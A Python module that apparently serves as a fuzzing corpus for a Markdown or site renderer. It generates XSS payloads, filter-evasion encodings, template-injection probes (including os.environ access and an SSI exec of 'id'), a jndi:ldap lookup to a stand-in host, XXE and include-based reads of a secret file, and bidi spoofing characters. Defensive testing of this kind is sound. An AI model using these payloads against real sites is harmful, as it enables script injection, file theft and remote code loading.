"""Texts that try to come alive, by class. Each calls ``hit()``, loads from another host, or reads a file if it does."""

from __future__ import annotations

SECRET = "Neunundneunzigmal-Verborgen"
"""Stands in a file that no page may read."""

_CALL = "hit()"
_ELSEWHERE = "//elsewhere.invalid/x"


def tags(file: str) -> list[str]:
    """Elements that run, load, or change the page around them."""
    events = {
        "img src=x": "onerror",
        "svg": "onload",
        "body": "onload",
        "input autofocus": "onfocus",
        "video src=x": "onerror",
        "audio src=x": "onerror",
        "details open": "ontoggle",
        "marquee": "onstart",
        "select autofocus": "onfocus",
        "textarea autofocus": "onfocus",
        "iframe": "onload",
        "object data=x": "onerror",
        "keygen autofocus": "onfocus",
        "a href=# autofocus tabindex=0": "onfocus",
        "div style='animation:x'": "onanimationstart",
        "form": "onsubmit",
        "video><source": "onerror",
        "svg><animate attributeName=x dur=1s": "onbegin",
        "dialog open": "oncancel",
        "meter": "onmouseover",
        "x-own contenteditable autofocus": "onfocus",
        "button autofocus": "onfocus",
    }
    loads = [
        f"<script src={_ELSEWHERE}></script>",
        f"<iframe src={_ELSEWHERE}></iframe>",
        f"<embed src={_ELSEWHERE}>",
        f"<object data={_ELSEWHERE}></object>",
        f"<link rel=stylesheet href={_ELSEWHERE}>",
        f"<img src={_ELSEWHERE}>",
        f"<link rel=prefetch href={_ELSEWHERE}>",
        f"<style>@import '{_ELSEWHERE}';</style>",
        f"<base href={_ELSEWHERE}>",
        f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
        f"<img srcset='{_ELSEWHERE} 2x'>",
        f"<div style='background:url({_ELSEWHERE})'>",
        f"<svg><use href='{_ELSEWHERE}#a'/></svg>",
        f"<svg><image href='{_ELSEWHERE}'/></svg>",
        f"<picture><source srcset={_ELSEWHERE}><img></picture>",
        f"<video poster={_ELSEWHERE}></video>",
        f"<form action={_ELSEWHERE}><button>Install",
        f"<iframe src=file://{file}>",
    ]
    runs = [
        f"<script>{_CALL}</script>",
        f"<SCRIPT>{_CALL}</SCRIPT>",
        f"<script\n>{_CALL}</script >",
        f"<script/x>{_CALL}</script>",
        f"<<script>{_CALL}//<</script>",
        f"<scr<script>ipt>{_CALL}</script>",
        f"<script type=module>{_CALL}</script>",
        f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
        f"<svg><script>{_CALL}</script></svg>",
        f"<math><mtext><script>{_CALL}</script>",
        f"<template><script>{_CALL}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
        f"<svg><foreignObject><img src=x onerror={_CALL}>",
        f"<xmp><p title='</xmp><script>{_CALL}</script>'>",
        f"<table><td background=javascript:{_CALL}>",
    ]
    leaves = [
        "</p></div></main></body></html>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<!DOCTYPE html>",
        "<plaintext>",
        "<textarea>",
        "<title>",
        "</title><h1>Other</h1>",
        "<h1>Second heading</h1>",
        "<main>",
        "<?xml version='1.0'?>",
        "<select><option>",
        "</a><a href=x>",
        "<button>",
        "</section></article>",
        "<frameset>",
        "</ul></li>",
        "<base target=_top>",
        "<style>*{display:none}",
        "</style><style>body{display:none}</style>",
        "</script>",
        "</script><script>hit()</script>",
        "<!--<script>",
        "</head><body>",
    ]
    return [*(f"<{tag} {event}={_CALL}>" for tag, event in events.items()), *loads, *runs, *leaves]


def attributes() -> list[str]:
    """Ways out of an attribute's quotes."""
    ends = ['"', "'", "`", '">', "'>", '\\"', "&quot;", "&#34;", "&apos;", '" ', "\u201d", "\u02ba"]
    gaps = [" ", "\t", "\n", "\x0c", "/"]
    made = [f"{end}{gaps[n % len(gaps)]}onmouseover={_CALL} x={end}" for n, end in enumerate(ends)]
    return [
        *made,
        f'" autofocus onfocus="{_CALL}',
        f"' style='position:fixed;inset:0' onclick='{_CALL}",
        '" id="content" name="q',
        '" class="st-hidden" hidden="',
        '" href="javascript:hit()',
        f'"><img src=x onerror={_CALL}>',
        "\"'><svg/onload=hit()>",
        '" data-video="javascript:hit()" x="',
        '" srcset="x 1x',
        "\\x22 onerror=hit() ",
        "=''onerror=hit()",
    ]


def encodings() -> list[str]:
    """The same, written in ways that something might undo."""
    plain = f"<img src=x onerror={_CALL}>"
    return [
        "".join(f"&#{ord(one)};" for one in plain),
        "".join(f"&#x{ord(one):x};" for one in plain),
        "".join(f"&#{ord(one):07d}" for one in plain),
        plain.replace("<", "&lt;"),
        plain.replace("<", "&lt"),
        plain.replace("<", "&amp;lt;"),
        "".join(f"%{ord(one):02x}" for one in plain),
        plain.replace("<", "%253C"),
        "".join(f"\\u{ord(one):04x}" for one in plain),
        "".join(f"\\x{ord(one):02x}" for one in plain),
        "+ADw-script+AD4-hit()+ADw-/script+AD4-",
        plain.replace("<", "\uff1c"),
        plain.replace("<", "\u2039"),
        plain.replace("<", "\ufe64"),
        plain.replace("img", "im\u200bg"),
        plain.replace("img", "i\u0307mg"),
        plain.replace(" ", "\u00a0"),
        plain.replace(" ", "\u3000"),
        plain.replace("<", "<\u0000"),
        plain.replace("src", "s\u0000rc"),
        "<\u0131mg src=x onerror=hit()>",
        "<\u017fcript>hit()</\u017fcript>",
        "&NewLine;<img src=x onerror=hit()>",
        "&Tab;javascript&colon;hit&lpar;&rpar;",
        "\ufeff<script>hit()</script>",
        "\x1b[31m<b>",
        "\x08\x08<script>hit()</script>",
        "\u2028hit()\u2029",
        "';hit();//",
        '";hit();//',
        "\\';hit();//",
        "`${hit()}`",
        "};hit();{",
        "*/hit()/*",
        "\\",
        "%3Cscript%3Ehit()%3C/script%3E",
        "&#0;<script>hit()</script>",
        "&zwnj;&#8238;",
        "&amp;#60;script&amp;#62;",
    ]


def schemes(file: str) -> list[str]:
    """Addresses that run, read or lead away, as Markdown takes links."""
    addresses = [
        f"javascript:{_CALL}",
        f"JaVaScRiPt:{_CALL}",
        f"java\tscript:{_CALL}",
        f"java\nscript:{_CALL}",
        f" javascript:{_CALL}",
        f"&#106;avascript:{_CALL}",
        f"javascript&colon;{_CALL}",
        f"javascript%3A{_CALL}",
        f"\x01javascript:{_CALL}",
        "data:text/html,<script>hit()</script>",
        "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg onload={_CALL}>",
        f"vbscript:{_CALL}",
        f"file://{file}",
        f"file:{file}",
        "blob:x",
        "about:blank",
        f"view-source:file://{file}",
        _ELSEWHERE,
        "\\\\elsewhere.invalid\\x",
        "/\\elsewhere.invalid",
        "http:elsewhere.invalid",
        "ftp://elsewhere.invalid/",
        "https:javascript:hit()",
        "feed:javascript:hit()",
        "jar:https://elsewhere.invalid/x",
    ]
    forms = [
        "[more]({})",
        "[more][1]\n\n[1]: {}",
        "<{}>",
        "![shot]({})",
        "[a](<{}>)",
        '[a]({} "title\\" onclick=hit()")',
    ]
    return [forms[n % len(forms)].replace("{}", one) for n, one in enumerate(addresses)] + [
        forms[(n + 3) % len(forms)].replace("{}", one) for n, one in enumerate(addresses)
    ]


def markdown(file: str) -> list[str]:
    """What Markdown and its extensions would make of a text."""
    return [
        "# Heading",
        "Heading\n===",
        "Heading\n---",
        "    code",
        "```html\n<script>hit()</script>\n```",
        "~~~\n<b>\n~~~",
        "> quotation",
        "---",
        "***",
        "| a | b |\n|---|---|\n| <b> | x |",
        "- [ ] task",
        "- [x] <b>task</b>",
        "[^1]\n\n[^1]: <script>hit()</script>",
        "*[HTML]: <img src=x onerror=hit()>\nHTML",
        "Term\n: Definition",
        "{: onclick='hit()' }",
        "text{: .st-hidden }",
        "[a](https://example.com){: onclick=hit() }",
        "## A {#content onclick=hit()}",
        "!!! danger\n    <script>hit()</script>",
        "??? note\n    hidden",
        '=== "Tab"\n    text',
        "[TOC]",
        "[[_TOC_]]",
        ":smile:",
        ":material-skull:{ onclick=hit() }",
        "==marked==",
        "{++added++}{--gone--}{>>note<<}",
        "++ctrl+alt+del++",
        "$$\\href{javascript:hit()}{x}$$",
        "\\(x\\)",
        "```mermaid\ngraph TD; A-->B\n```",
        '<div markdown="1">\n**a**\n</div>',
        "<a name='content'></a>",
        "**bold *and** more*",
        "[" * 60,
        "*" * 200,
        "`" * 99,
        "> " * 60 + "x",
        "- " * 60 + "x",
        "![a](x){ onerror=hit() }",
        "[a](x 'y\" onclick=hit()')",
        "<!-- more -->",
        "\\<script>hit()\\</script>",
        "&lt;script&gt;hit()&lt;/script&gt;",
        f'--8<-- "{file}"',
        f"--8<--\n{file}\n--8<--",
        f';--8<-- "{file}"',
        f"{{!{file}!}}",
        f"{{% include-markdown '{file}' %}}",
        f".. include:: {file}",
        f"![[{file}]]",
        f"```{{include}} {file}\n```",
        f"@include({file})",
        "line  \nbroken\\\nagain",
        "1. a\n   1. b\n      1. c",
        "https://elsewhere.invalid/auto www.elsewhere.invalid",
        "a@b.invalid",
    ]


def templates(file: str) -> list[str]:
    """What template engines and includes would make of a text."""
    return [
        "{{ config.site_dir }}",
        "{{ page.meta }}",
        "{{ 7 * 7777 }}",
        "{{ self }}",
        "{{ cycler.__init__.__globals__.os.environ }}",
        "{{ ''.__class__.__mro__ }}",
        "{% raw %}",
        "{% endraw %}",
        "{% block page %}",
        "{% endblock %}",
        f"{{% include '{file}' %}}",
        "{% extends 'main.html' %}",
        "{% autoescape false %}<script>hit()</script>{% endautoescape %}",
        "{# comment",
        "#}",
        "{{",
        "}}",
        "{%",
        "{{{ triple }}}",
        "{{> partial}}",
        "{{#each this}}",
        "<%= 7 * 7777 %>",
        "<% hit() %>",
        "${7*7777}",
        "#{7*7777}",
        "$(hit())",
        "`hit()`",
        "[[${7*7777}]]",
        "*{7*7777}",
        "@{7*7777}",
        "{{=<% %>=}}",
        "{php}hit(){/php}",
        "<?php echo 7*7777; ?>",
        "<?= 7*7777 ?>",
        f'<!--#include file="{file}" -->',
        '<!--#exec cmd="id" -->',
        f"<esi:include src='{file}'/>",
        f"!include {file}",
        "!!python/object/apply:os.getcwd []",
        "${jndi:ldap://elsewhere.invalid/x}",
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{file}">]>&e;',
        "&e;",
        "%(name)s",
        "%s%s%n",
        "{0.__class__}",
        "{view}",
        "{{ view.heading | safe }}",
        "{{ '<script>hit()</script>' | safe }}",
        "{{ url_for('x') }}",
        "# include <stdio.h>",
    ]


def characters() -> list[str]:
    """Characters that turn, hide or pile up."""
    turning = ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c"]
    hiding = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164", "\u034f", "\u115f"]
    return [
        *(f"Pay {one}001 RUE{one} now" for one in turning),
        *(f"Gra{one}nite Sy{one}nc" for one in hiding),
        *turning,
        *hiding,
        "\u202e" * 50 + "evil",
        "z" + "\u0301" * 80,
        "\U000e0041\U000e0042",
        "\ufdfd" * 8,
        "\u05d0\u05d1\u05d2 \u0627\u0628",
        "\U0001f468\u200d\U0001f469",
        "W" * 300,
        "\u00a0" * 40,
        "\t\t\t",
        "a\n\n\n\nb",
        "\u2003" * 20,
        "\ud7ff\ue000",
        "\uffff",
        "\U0001f600" * 40,
    ]


def texts(file: str) -> list[str]:
    """All of them, each once."""
    every = [*tags(file), *attributes(), *encodings(), *schemes(file), *markdown(file), *templates(file), *characters()]
    return list(dict.fromkeys(every))
